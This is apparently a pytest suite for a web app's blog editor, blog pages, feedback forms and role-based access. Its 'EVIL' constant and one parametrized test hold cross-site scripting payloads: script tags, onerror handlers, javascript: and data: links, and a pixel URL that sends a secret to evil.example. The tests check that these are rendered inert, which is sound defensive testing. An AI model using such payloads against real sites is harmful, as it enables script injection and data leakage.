from __future__ import annotations

from datetime import timedelta

import httpx
import pytest

from fundwright.accounts.schemas import Actor, Role
from fundwright.content import service
from fundwright.content.schemas import FeedbackKind, FeedbackQuery, FeedbackSend, FeedbackState, PostQuery, PostState
from fundwright.core.assembly import Core
from fundwright.core.database import now
from fundwright_ui import plugin, testing
from fundwright_ui.app import build_app
from fundwright_ui.product.host import ProductHost
from fundwright_ui.runtime.html import to_html
from fundwright_ui.runtime.router import Found, Redirect, Router
from fundwright_ui.screens.blog.blog import blog_post_screen, blog_screen
from fundwright_ui.screens.blog.blog_list import blog_list_screen
from fundwright_ui.screens.blog.editor import edit_post_screen, new_post_screen
from fundwright_ui.screens.feedback.feedback import feedback_screen
from fundwright_ui.screens.feedback.feedback_list import feedback_list_screen
from fundwright_ui.testing import mounted
from tests.content.conftest import Write

HOUR = timedelta(hours=1)
EVIL = """
<img src=x onerror="alert(1)"> <script>alert(2)</script>

![pixel](http://evil.example/?q=secret) [here](javascript:alert(3)) [there](data:text/html,x) [away](//evil.example)
"""


async def send(core: Core, actor: Actor, words: str, *, kind: FeedbackKind = FeedbackKind.IDEA, page: str = "") -> str:
    async with core.database.transaction() as session:
        return str((await service.send_feedback(session, actor, FeedbackSend(kind=kind, text=words, page=page))).id)


async def posts_of(core: Core, actor: Actor) -> list[tuple[str, PostState]]:
    async with core.database.transaction() as session:
        return [(post.title, post.state) for post in (await service.list_posts(session, actor, PostQuery())).items]


class TestNewPost:
    async def test_a_draft_is_kept_and_its_own_page_opens(self, committed: Core, ada: Actor) -> None:
        async with mounted(committed, ada, new_post_screen) as screen:
            await screen.type("Title", "What is new")
            await screen.type("Text", "Much.")
            await screen.click("button", "Save as draft")
            assert screen.toasts == ["The draft was saved."]
            assert screen.navigations[0].endswith("/edit")
        assert await posts_of(committed, ada) == [("What is new", PostState.DRAFT)]

    async def test_it_is_published_at_once(self, committed: Core, ada: Actor) -> None:
        async with mounted(committed, ada, new_post_screen) as screen:
            await screen.type("Title", "What is new")
            await screen.type("Text", "Much.")
            await screen.click("button", "Publish")
            assert screen.toasts == ["The post was saved and is public."]
        assert await posts_of(committed, ada) == [("What is new", PostState.PUBLISHED)]

    async def test_it_is_scheduled(self, committed: Core, ada: Actor) -> None:
        async with mounted(committed, ada, new_post_screen) as screen:
            await screen.type("Title", "What is new")
            await screen.type("Text", "Much.")
            await screen.type("Publish at", (now() + HOUR).isoformat())
            await screen.click("button", "Publish")
            assert screen.toasts == ["The post was saved and will be published as scheduled."]
        assert await posts_of(committed, ada) == [("What is new", PostState.SCHEDULED)]

    async def test_what_is_missing_is_shown_next_to_the_field_and_the_rest_stays(self, committed: Core, ada: Actor) -> None:
        async with mounted(committed, ada, new_post_screen) as screen:
            await screen.type("Text", "Much.")
            await screen.type("Publish at", "1999-01-01T00:00:00Z")
            await screen.click("button", "Publish")
            assert "Fill in this field." in screen.text
            assert "Choose a time between the years 2000 and 2099." in screen.text
            assert screen.value("Text") == "Much."
        assert await posts_of(committed, ada) == []

    async def test_the_preview_follows_what_is_typed(self, committed: Core, ada: Actor) -> None:
        async with mounted(committed, ada, new_post_screen) as screen:
            assert "Your text will appear here" in screen.text
            await screen.type("Text", "## Aim")
            assert screen.props("MarkdownView")["text"] == "## Aim"


class TestEditPost:
    async def test_a_published_post_is_changed_and_stays_where_it_is(self, committed: Core, ada: Actor, write: Write) -> None:
        post = await write("News")
        async with mounted(committed, ada, edit_post_screen, params={"id": str(post.id)}) as screen:
            assert screen.value("Title") == "News"
            assert not screen.has("button", "Publish")
            await screen.type("Title", "Newer")
            await screen.click("button", "Save")
            assert screen.toasts == ["The post was saved and is public."]
        assert await posts_of(committed, ada) == [("Newer", PostState.PUBLISHED)]

    async def test_a_scheduled_post_keeps_its_time_until_it_is_published(self, committed: Core, ada: Actor, write: Write) -> None:
        post = await write("News", at=now() + HOUR)
        async with mounted(committed, ada, edit_post_screen, params={"id": str(post.id)}) as screen:
            await screen.click("button", "Save")
            assert await posts_of(committed, ada) == [("News", PostState.SCHEDULED)]
            await screen.click("button", "Publish")
            await screen.expect("Published")
        assert await posts_of(committed, ada) == [("News", PostState.PUBLISHED)]

    async def test_it_goes_back_to_draft(self, committed: Core, ada: Actor, write: Write) -> None:
        post = await write("News")
        async with mounted(committed, ada, edit_post_screen, params={"id": str(post.id)}) as screen:
            await screen.click("button", "Unpublish")
            await screen.expect(lambda: screen.has("button", "Save as draft"))
        assert await posts_of(committed, ada) == [("News", PostState.DRAFT)]

    async def test_what_another_user_has_changed_meanwhile_is_not_overwritten(
        self, committed: Core, ada: Actor, write: Write
    ) -> None:
        post = await write("News")
        edit = {"id": str(post.id)}
        async with (
            mounted(committed, ada, edit_post_screen, params=edit) as first,
            mounted(committed, ada, edit_post_screen, params=edit) as second,
        ):
            for title in ("Newer", "Newest"):
                await first.type("Title", title)
                await first.click("button", "Save")
            await second.type("Title", "Old")
            await second.click("button", "Save")
            assert "Someone else changed this post" in second.text
            assert second.value("Title") == "Old"
        assert await posts_of(committed, ada) == [("Newest", PostState.PUBLISHED)]

    async def test_what_was_changed_before_the_server_restarted_is_not_overwritten(
        self, committed: Core, ada: Actor, write: Write
    ) -> None:
        post = await write("News")
        edit = {"id": str(post.id)}
        async with mounted(committed, ada, edit_post_screen, params=edit) as first:
            await first.type("Title", "Newest")
            await first.click("button", "Save")
        async with mounted(committed, ada, edit_post_screen, params=edit) as restarted:
            begun = {"title": "Old", "text": "Old", "publication": "keep", "based_on": post.changed_at.isoformat()}
            await restarted.emit("form", "on_submit", fields=begun)
            assert "Someone else changed this post" in restarted.text
        assert await posts_of(committed, ada) == [("Newest", PostState.PUBLISHED)]


class TestBlogList:
    async def test_without_posts_it_shows_a_message(self, committed: Core, ada: Actor) -> None:
        async with mounted(committed, ada, blog_list_screen) as screen:
            assert "No posts yet." in screen.text
            assert screen.find("link", "New post").props["href"] == "/dashboard/blog/new-post"

    async def test_search_state_and_order_are_in_the_url(self, committed: Core, ada: Actor, write: Write) -> None:
        await write("Berlin", draft=True)
        await write("Calais")
        async with mounted(committed, ada, blog_list_screen) as screen:
            assert [row["title"] for row in screen.rows()] == ["Calais", "Berlin"]
            await screen.choose("Status", "draft")
            assert screen.address.endswith("?state=draft")
            assert [row["title"] for row in screen.rows()] == ["Berlin"]
            assert screen.find("link", "Export as CSV").props["href"] == "/api/blog/posts/export.csv?state=draft"
            await screen.type("Search", "nowhere")
            await screen.click("button", "Search")
            assert "No posts match." in screen.text
        async with mounted(committed, ada, blog_list_screen, path="/dashboard/blog/list?sort=title&page_size=10") as screen:
            assert screen.props("DataTable")["sort"] == {"field": "title", "direction": "asc"}

    @pytest.mark.parametrize("query", ["page=0", "page=x", "page=9", "state=odd", "sort=drop", "open=x", "q=%00"])
    async def test_an_odd_address_shows_what_there_is(self, committed: Core, ada: Actor, write: Write, query: str) -> None:
        await write("News")
        async with mounted(committed, ada, blog_list_screen, path=f"/dashboard/blog/list?{query}") as screen:
            assert screen.rows()[0]["title"] == "News"

    async def test_deleting_asks_first(self, committed: Core, ada: Actor, write: Write) -> None:
        post = await write("News")
        async with mounted(committed, ada, blog_list_screen) as screen:
            await screen.emit("DataTable", "on_open", id=str(post.id))
            assert screen.address.endswith(f"?open={post.id}")
            await screen.click("button", "Delete")
            assert screen.props("ConfirmDialog")["title"] == "Delete “News”?"
            await screen.emit("ConfirmDialog", "on_cancel")
            await screen.click("button", "Delete")
            await screen.emit("ConfirmDialog", "on_confirm")
            await screen.expect("0 posts")
            (row,) = screen.rows()
            assert (row["title"], row["state"][0]["label"]) == ("News", "Deleted")
            assert screen.toasts == ["The post was deleted."]
        async with mounted(committed, ada, blog_list_screen) as screen:
            assert "No posts yet." in screen.text


class TestBlog:
    async def test_strangers_read_what_is_published_eleven_on_a_page(self, committed: Core, write: Write) -> None:
        for number in range(12):
            await write(f"Post {number}", at=now() - number * HOUR)
        await write("Secret", draft=True)
        async with mounted(committed, None, blog_screen) as screen:
            assert len(screen.elements("article")) == 11
            assert "Secret" not in screen.text
            assert screen.find("link", "Post 0").props["href"] == "/blog/post-0"
            assert screen.find("link", "Login").props["href"] == "/auth/login"
            assert screen.find("link", "Fundwright").props["href"] == "/"
            await screen.click("link", "Next page")
            assert [each.props["href"] for each in screen.elements("link", "Post 11")] == ["/blog/post-11"]

    @pytest.mark.parametrize("number", ["0", "x", "9" * 5_000])
    async def test_an_impossible_page_is_the_first(self, committed: Core, write: Write, number: str) -> None:
        await write("News")
        async with mounted(committed, None, blog_screen, path=f"/blog?page={number}") as screen:
            assert "On News" in screen.text

    async def test_without_posts_and_beyond_the_last_page_it_shows_a_message(self, committed: Core, write: Write) -> None:
        async with mounted(committed, None, blog_screen) as screen:
            assert "No posts yet." in screen.text
            await write("News")
            await screen.expect("On News")
        async with mounted(committed, None, blog_screen, path="/blog?page=7") as screen:
            assert "This page doesn't exist." in screen.text

    async def test_a_post_is_read_under_its_own_title(self, committed: Core, write: Write) -> None:
        await write("News", "It is **here**.")
        async with mounted(committed, None, blog_post_screen, params={"slug": "news"}) as screen:
            assert screen.title == "News"
            assert screen.has("heading", "News")
            assert "It is here" in screen.text

    async def test_what_is_not_there_answers_404_with_a_way_back(self, committed: Core, write: Write) -> None:
        await write("Secret", draft=True)
        transport = httpx.ASGITransport(build_app(committed))
        async with httpx.AsyncClient(transport=transport, base_url="http://localhost") as client:
            page = await client.get("/blog/secret")
        assert page.status_code == 404
        assert "It is" not in page.text
        assert 'href="/blog"' in page.text.split("<main", 1)[1]

    @pytest.mark.security(39)
    async def test_what_could_act_in_a_post_is_only_text(self, committed: Core, ada: Actor, write: Write) -> None:
        post = await write("<img src=x onerror=alert(0)>", EVIL)
        places = [(blog_post_screen, {"slug": post.slug}), (blog_screen, {}), (edit_post_screen, {"id": str(post.id)})]
        for shown, params in places:
            async with mounted(committed, ada, shown, params=params) as screen:
                html = to_html(screen.view.tree)
            assert "<img" not in html
            assert "<script" not in html
            for scheme in ("javascript:", "data:", "//"):
                assert f'href="{scheme}' not in html
            assert 'src="' not in html


class TestFeedback:
    async def test_it_is_sent_and_the_form_is_empty_again(self, committed: Core, ada: Actor) -> None:
        async with mounted(committed, ada, feedback_screen, path="/feedback?page=/dashboard/sam") as screen:
            await screen.choose("What is it about?", "idea")
            await screen.type("Your feedback", "More colors")
            assert screen.value("Page") == "/dashboard/sam"
            await screen.click("button", "Send")
            assert screen.toasts == ["Thank you for your feedback."]
        async with committed.database.transaction() as session:
            (entry,) = (await service.list_feedback(session, ada, FeedbackQuery())).items
        assert (entry.kind, entry.text, entry.page) == (FeedbackKind.IDEA, "More colors", "/dashboard/sam")

    async def test_an_empty_one_is_rejected_next_to_the_field(self, committed: Core, ada: Actor) -> None:
        async with mounted(committed, ada, feedback_screen) as screen:
            await screen.click("button", "Send")
            assert "Fill in this field." in screen.text

    def test_strangers_and_the_unknown_address_see_the_login_screen_in_place(self, ada: Actor) -> None:
        router = Router(
            plugin.screens(), ProductHost.addresses, redirects={}, may_open=lambda actor: actor.email != "unknown@unknown.com"
        )
        unknown = ada.model_copy(update={"email": "unknown@unknown.com"})
        for visitor, title in ((None, "Login"), (unknown, "Login"), (ada, "Feedback")):
            found = router.route("/feedback", visitor)
            assert isinstance(found, Found)
            assert (found.screen.title, found.location.path) == (title, "/feedback")


class TestFeedbackList:
    async def test_without_feedback_it_shows_a_message(self, committed: Core, ada: Actor) -> None:
        async with mounted(committed, ada, feedback_list_screen) as screen:
            assert "No feedback yet." in screen.text
            assert screen.find("link", "Send feedback").props["href"] == "/feedback"

    async def test_filters_are_in_the_url(self, committed: Core, ada: Actor) -> None:
        await send(committed, ada, "Broken", kind=FeedbackKind.PROBLEM)
        await send(committed, ada, "Colors")
        async with mounted(committed, ada, feedback_list_screen) as screen:
            assert [row["text"] for row in screen.rows()] == ["Colors", "Broken"]
            await screen.choose("Kind", "problem")
            assert screen.address.endswith("?kind=problem")
            assert [row["text"] for row in screen.rows()] == ["Broken"]
            await screen.choose("Status", "closed")
            assert "No feedback matches." in screen.text

    async def test_the_team_says_how_far_it_is(self, committed: Core, ada: Actor) -> None:
        id = await send(committed, ada, "More colors", page="/dashboard/train")
        async with mounted(committed, ada, feedback_list_screen) as screen:
            await screen.emit("DataTable", "on_open", id=id)
            assert screen.has("region", "Feedback from ada@example.org")
            assert screen.find("link", "/dashboard/train")
            form = screen.find("form", "Edit feedback")
            (state,) = [each for each in screen.elements("combobox", "Status") if form.node in each.ancestors]
            screen._typed[testing._identity(state)] = ("open", None)
            await screen.type("Team note", "Asked the designer")
            await screen.click("button", "Save")
            assert screen.toasts == ["The feedback was saved."]
        async with committed.database.transaction() as session:
            (entry,) = (await service.list_feedback(session, ada, FeedbackQuery())).items
        assert (entry.state, entry.note) == (FeedbackState.OPEN, "Asked the designer")

    @pytest.mark.parametrize("page", ["//evil.example", "https://evil.example", "javascript:alert(1)", "the first page"])
    async def test_a_page_elsewhere_is_not_a_link(self, committed: Core, ada: Actor, page: str) -> None:
        id = await send(committed, ada, "Look", page=page)
        async with mounted(committed, ada, feedback_list_screen, path=f"/dashboard/feedback?open={id}") as screen:
            assert page in screen.text
            assert not screen.has("link", page)


@pytest.mark.parametrize(
    ("path", "roles"),
    [
        ("/dashboard/blog/new-post", {Role.ADMIN}),
        ("/dashboard/blog/list", {Role.ADMIN}),
        ("/dashboard/blog/x/edit", {Role.ADMIN}),
        ("/dashboard/feedback", {Role.ADMIN}),
        ("/feedback", set(Role)),
    ],
)
def test_who_may_open_it(ada: Actor, path: str, roles: set[Role]) -> None:
    router = Router(plugin.screens(), ProductHost.addresses, redirects={})
    opened = {role for role in Role if isinstance(router.route(path, ada.model_copy(update={"role": role})), Found)}
    assert opened == roles
    if path != "/feedback":
        assert isinstance(router.route(path, None), Redirect)
